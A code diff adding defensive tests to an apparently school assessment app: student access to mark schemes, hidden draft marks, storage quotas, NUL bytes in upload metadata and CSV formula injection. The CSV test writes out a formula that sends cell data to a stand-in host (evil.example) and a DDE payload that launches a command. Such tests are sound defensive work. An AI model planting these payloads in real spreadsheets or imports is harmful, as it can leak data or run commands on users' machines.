@@ -8,7 +8,8 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startTestServer, testDrivers, type TestServer } from '../testing/harness.js';
 import { productHooks, productPlugins } from '../product/index.js';
-import { call, linesPdf, linkStudent, pdfBlob, signUp, submissionForm, waitForJob, type TestUser } from '../product/assessments/testing.js';
+import { call, linesPdf, linkStudent, pdfBlob, signUp, storedObjectCount, submissionForm, waitForJob, type TestUser } from '../product/assessments/testing.js';
+import { OPEN_UPLOADS_MESSAGE, PLAN_OPEN_UPLOADS, PLAN_STORAGE_BYTES, STORAGE_LIMIT_MESSAGE } from '../product/files/upload-limits.js';
 import { NUL_IN_INPUT } from '../http/input-guard.js';
 
 const drivers = await testDrivers();
@@ -82,6 +83,37 @@ for (const driver of drivers) {
         expect((await uploadTo(t, classTeacher, 'assessment', assessmentId, 'mark_scheme')).status).toBe(201);
       });
 
+      it('refuses a student\'s own mark scheme sent with answers to the assessment, and marks answers against the teacher\'s', async () => {
+        expect((await uploadTo(t, teacher, 'assessment', assessmentId, 'mark_scheme')).status).toBe(201);
+        const currentSchemes = async () =>
+          (await call(t, teacher, 'GET', `/api/files/assessment/${assessmentId}/files`)).body.files
+            .filter((file: any) => file.file_type === 'mark_scheme' && file.is_current_version)
+            .map((file: any) => file.id)
+            .sort();
+        const teacherSchemes = await currentSchemes();
+        const submissionsBefore = await t.server.db.query('SELECT 1 FROM student_assessments WHERE student_id = $1', [student.id]);
+        const attack = await submissionForm(
+          { title: 'End of topic test', subject_name: 'Physics', assessment_id: assessmentId, generate_weak_areas_pdf: 'false' },
+          { mark_scheme: pdfBlob(await linesPdf(['1 (a) anything goes [1]'])), student_answer: pdfBlob(await linesPdf(['1 (a) anything'])) },
+        );
+        const answer = await call(t, student, 'POST', '/api/assessments/submit-and-grade', attack);
+        expect(answer.status).toBe(403);
+        expect(answer.body.detail).toBe("Only the assessment's creator or a teacher of its class can attach files to it");
+        expect(await currentSchemes()).toEqual(teacherSchemes);
+        expect((await t.server.db.query('SELECT 1 FROM files WHERE uploaded_by = $1', [student.id])).rows).toHaveLength(0);
+        expect((await t.server.db.query('SELECT 1 FROM student_assessments WHERE student_id = $1', [student.id])).rows).toHaveLength(submissionsBefore.rows.length);
+
+        // Answers alone are taken, and marked against the teacher's mark scheme.
+        const honest = await submissionForm(
+          { title: 'End of topic test', subject_name: 'Physics', assessment_id: assessmentId, generate_weak_areas_pdf: 'false' },
+          { student_answer: pdfBlob(await linesPdf(['1 (a) ohms'])) },
+        );
+        const submitted = await call(t, student, 'POST', '/api/assessments/submit-and-grade', honest);
+        expect(submitted.status).toBe(200);
+        const { rows } = await t.server.db.query<{ payload: any }>('SELECT payload FROM jobs WHERE id = $1', [submitted.body.job_id]);
+        expect(teacherSchemes).toContain(rows[0]!.payload.files.mark_scheme);
+      });
+
       it('lets a student attach only to their own submission', async () => {
         const other = await signUp(t, 'student', 'Olga Other');
         const { rows } = await t.server.db.query<{ id: string }>(
@@ -90,6 +122,38 @@ for (const driver of drivers) {
         );
         expect((await uploadTo(t, student, 'student_assessment', rows[0]!.id, 'student_answer')).status).toBe(404);
         expect((await uploadTo(t, other, 'student_assessment', rows[0]!.id, 'student_answer')).status).toBe(201);
+      });
+    });
+
+    describe('reading a mark scheme', () => {
+      it('follows the same rule on every route: a student of the class reads it only once they have submitted', async () => {
+        const { rows: classes } = await t.server.db.query<{ id: string }>(`INSERT INTO classes (name, teacher_id) VALUES ('Year 8', $1) RETURNING id`, [teacher.id]);
+        const { rows } = await t.server.db.query<{ id: string }>(
+          `INSERT INTO assessments (title, creator_id, class_id, source, status) VALUES ('Homework 3', $1, $2, 'upload', 'completed') RETURNING id`,
+          [teacher.id, classes[0]!.id],
+        );
+        await t.server.db.query('INSERT INTO class_assessments (class_id, assessment_id, assigned_by) VALUES ($1, $2, $3)', [classes[0]!.id, rows[0]!.id, teacher.id]);
+        const pupil = await signUp(t, 'student', 'Pat Pupil');
+        await t.server.db.query(`INSERT INTO students (teacher_id, class_id, name, email, user_id, invitation_status) VALUES ($1, $2, 'Pat Pupil', $3, $4, 'accepted')`, [
+          teacher.id,
+          classes[0]!.id,
+          pupil.email,
+          pupil.id,
+        ]);
+        const form = new FormData();
+        form.append('file', pdfBlob(await linesPdf(['Mark scheme', '1 ohms [1]'])), 'answers.pdf');
+        for (const [name, value] of Object.entries({ entity_type: 'assessment', entity_id: rows[0]!.id, file_type: 'mark_scheme', visibility: 'private' })) form.append(name, value);
+        const scheme = (await call(t, teacher, 'POST', '/api/files/upload', form)).body;
+        expect((await call(t, pupil, 'GET', `/api/assessments/${rows[0]!.id}`)).status).toBe(200);
+
+        // The attacker (a student of the class who has not submitted) asks for the mark scheme both ways.
+        expect((await call(t, pupil, 'GET', `/api/files/${scheme.id}/url`)).status).toBe(404);
+        const sign = await call(t, pupil, 'POST', `/storage/v1/object/sign/${scheme.bucket_id}/${scheme.storage_path}`, { expiresIn: 60 });
+        expect(sign.status).toBe(404);
+        expect(sign.body).not.toHaveProperty('signedURL');
+        // Its teacher can, both ways.
+        expect((await call(t, teacher, 'GET', `/api/files/${scheme.id}/url`)).status).toBe(200);
+        expect((await call(t, teacher, 'POST', `/storage/v1/object/sign/${scheme.bucket_id}/${scheme.storage_path}`, { expiresIn: 60 })).body).toHaveProperty('signedURL');
       });
     });
 
@@ -117,6 +181,119 @@ for (const driver of drivers) {
       });
     });
 
+    describe('regrade answers', () => {
+      it('show the student released marks only, never the teacher\'s drafts', async () => {
+        const form = await submissionForm({ title: 'Regraded paper', subject_name: 'Physics', generate_weak_areas_pdf: 'false' });
+        const submitted = await call(t, student, 'POST', '/api/assessments/submit-and-grade', form);
+        const submission = (await waitForJob(t, student, submitted.body.job_id)).student_assessment_id;
+        const path = `/api/student-assessments/${submission}`;
+        expect((await call(t, teacher, 'POST', `${path}/release`, {})).status).toBe(200);
+        const { rows: questions } = await t.server.db.query<{ question: string; question_part: string; marks_obtained: string; total_marks: string }>(
+          'SELECT question, question_part, marks_obtained, total_marks FROM question_results WHERE student_assessment_id = $1 ORDER BY question, question_part',
+          [submission],
+        );
+        expect(questions.length).toBeGreaterThanOrEqual(2);
+        const [kept, changed] = questions.map((q) => ({ ...q, released: Number(q.marks_obtained), draft: Number(q.marks_obtained) === 0 ? 1 : 0 }));
+
+        // The student asks about two questions; the teacher drafts other marks for both, unreleased.
+        for (const q of [kept!, changed!]) {
+          const asked = await call(t, student, 'POST', `${path}/regrade-requests`, { question: q.question, question_part: q.question_part, reason: 'Please look again' });
+          expect(asked.status).toBe(201);
+          const draft = { marks: [{ question: q.question, question_part: q.question_part || null, marks_obtained: q.draft, feedback: 'Draft' }] };
+          expect((await call(t, teacher, 'PUT', `${path}/marks`, draft)).status).toBe(200);
+        }
+        const requests = (await call(t, teacher, 'GET', `${path}/regrade-requests`)).body;
+        const idOf = (q: typeof kept) => requests.find((r: any) => r.question === q!.question && r.question_part === q!.question_part).id;
+        expect((await call(t, teacher, 'POST', `/api/regrade-requests/${idOf(kept)}/answer`, { response: 'The mark stands.' })).status).toBe(200);
+        const newMark = changed!.draft === 0 ? 1 : 0;
+        expect((await call(t, teacher, 'POST', `/api/regrade-requests/${idOf(changed)}/answer`, { response: 'Changed.', marks_obtained: newMark })).status).toBe(200);
+
+        // The attacker (the student) reads the answers before anything is released again.
+        const seen = (await call(t, student, 'GET', `${path}/regrade-requests`)).body;
+        const view = (q: typeof kept) => {
+          const r = seen.find((each: any) => each.question === q!.question && each.question_part === q!.question_part);
+          return [r.state, r.marks_obtained, r.marks_before, r.marks_after];
+        };
+        expect(view(kept)).toEqual(['unchanged', kept!.released, kept!.released, kept!.released]);
+        expect(view(changed)).toEqual(['changed', changed!.released, changed!.released, null]);
+      });
+    });
+
+    describe('CSV exports', () => {
+      it('write a name or ID that a spreadsheet would run as a formula as text', async () => {
+        const schoolClass = await call(t, teacher, 'POST', '/api/classes', { name: 'Year 11', year_group: 'Year 11' });
+        expect(schoolClass.status).toBe(201);
+        // Names as a hostile import file or a student's own sign-up could bring them.
+        const hostile = { name: '=HYPERLINK("https://evil.example/?"&A1,"Open")', student_id: '@SUM(1+1)*cmd|\' /C calc\'!A0', class_id: schoolClass.body.id };
+        expect((await call(t, teacher, 'POST', '/api/students/students', hostile)).status).toBe(201);
+        const response = await fetch(`${t.url}/api/classes/${schoolClass.body.id}/export`, { headers: { authorization: `Bearer ${teacher.token}` } });
+        expect(response.status).toBe(200);
+        const csv = (await response.text()).replace(/^\uFEFF/, '');
+        expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
+        expect(csv).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
+        // No cell of any line starts with a formula character, quoted or not.
+        for (const line of csv.split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
+      });
+    });
+
+    describe('storage limits', () => {
+      const openResumable = (user: TestUser, length: number) =>
+        fetch(`${t.url}/storage/v1/upload/resumable`, {
+          method: 'POST',
+          headers: {
+            authorization: `Bearer ${user.token}`,
+            'tus-resumable': '1.0.0',
+            'upload-length': String(length),
+            'upload-metadata': Object.entries({ objectName: 'notes.pdf', bucketName: 'assessment-files', entity_type: 'resource', entity_id: 'pack', file_type: 'resource' })
+              .map(([name, text]) => `${name} ${Buffer.from(text).toString('base64')}`)
+              .join(','),
+          },
+        });
+
+      it('caps the resumable uploads one user has open at once', async () => {
+        const hoarder = await signUp(t, 'student', 'Hal Hoarder');
+        const opened: string[] = [];
+        for (let index = 0; index < PLAN_OPEN_UPLOADS; index += 1) {
+          const response = await openResumable(hoarder, 50_000_000);
+          expect(response.status).toBe(201);
+          opened.push(response.headers.get('location')!);
+        }
+        const refused = await openResumable(hoarder, 50_000_000);
+        expect(refused.status).toBe(429);
+        expect(await refused.json()).toEqual({ detail: OPEN_UPLOADS_MESSAGE, limit_type: 'open_uploads' });
+        // Another user is not held up by the first one's uploads.
+        expect((await openResumable(teacher, 1000)).status).toBe(201);
+        // Cancelling one frees its place.
+        const cancelled = await fetch(opened[0]!, { method: 'DELETE', headers: { authorization: `Bearer ${hoarder.token}`, 'tus-resumable': '1.0.0' } });
+        expect(cancelled.status).toBe(204);
+        await expect.poll(async () => (await openResumable(hoarder, 1000)).status).toBe(201);
+      });
+
+      it('keeps each user within their storage quota on every upload route', async () => {
+        const filler = await signUp(t, 'student', 'Fay Filler');
+        // Files uploaded earlier fill the quota to within 100 bytes.
+        await t.server.db.query(
+          `INSERT INTO files (file_name, file_type, entity_type, entity_id, bucket_id, storage_path, uploaded_by, visibility, file_size)
+           VALUES ('old.pdf', 'resource', 'resource', 'old', 'assessment-files', $1, $2, 'private', $3)`,
+          [`${filler.id}/old/old.pdf`, filler.id, PLAN_STORAGE_BYTES - 100],
+        );
+        const before = await storedObjectCount(t);
+        const refusals = [
+          await openResumable(filler, 50_000),
+          await uploadTo(t, filler, 'resource', 'pack', 'resource').then((answer) => ({ status: answer.status, json: async () => answer.body })),
+          await call(t, filler, 'POST', '/api/assessments/submit-and-grade', await submissionForm({ title: 'Too much', subject_name: 'Physics', generate_weak_areas_pdf: 'false' })).then(
+            (answer) => ({ status: answer.status, json: async () => answer.body }),
+          ),
+        ];
+        for (const refused of refusals) {
+          expect(refused.status).toBe(429);
+          expect(await refused.json()).toEqual({ detail: STORAGE_LIMIT_MESSAGE, limit_type: 'storage' });
+        }
+        expect(await storedObjectCount(t)).toBe(before);
+        expect((await t.server.db.query('SELECT 1 FROM files WHERE uploaded_by = $1', [filler.id])).rows).toHaveLength(1);
+      });
+    });
+
     describe('NUL bytes', () => {
       it('answers a NUL in an invitation code with a 400 and a readable detail', async () => {
         for (const [method, path] of [
@@ -126,6 +303,24 @@ for (const driver of drivers) {
           const answer = await call(t, method === 'GET' ? null : student, method, path);
           expect(answer.status, path).toBe(400);
           expect(answer.body.detail).toBe(NUL_IN_INPUT);
+        }
+      });
+
+      it('answers a NUL in resumable upload metadata with a 400, before any byte is sent', async () => {
+        const encode = (text: string) => Buffer.from(text).toString('base64');
+        for (const [key, value] of [['objectName', 'notes\u0000.pdf'], ['entity_id', 'pack\u0000one'], ['metadata_json', '{"a":"\u0000"}']]) {
+          const fields: Record<string, string> = { objectName: 'notes.pdf', bucketName: 'assessment-files', entity_type: 'resource', entity_id: 'pack', file_type: 'resource', [key!]: value! };
+          const response = await fetch(`${t.url}/storage/v1/upload/resumable`, {
+            method: 'POST',
+            headers: {
+              authorization: `Bearer ${teacher.token}`,
+              'tus-resumable': '1.0.0',
+              'upload-length': '1000',
+              'upload-metadata': Object.entries(fields).map(([name, text]) => `${name} ${encode(text)}`).join(','),
+            },
+          });
+          expect(response.status, key).toBe(400);
+          expect(((await response.json()) as { detail: string }).detail).toBe(NUL_IN_INPUT);
         }
       });
 
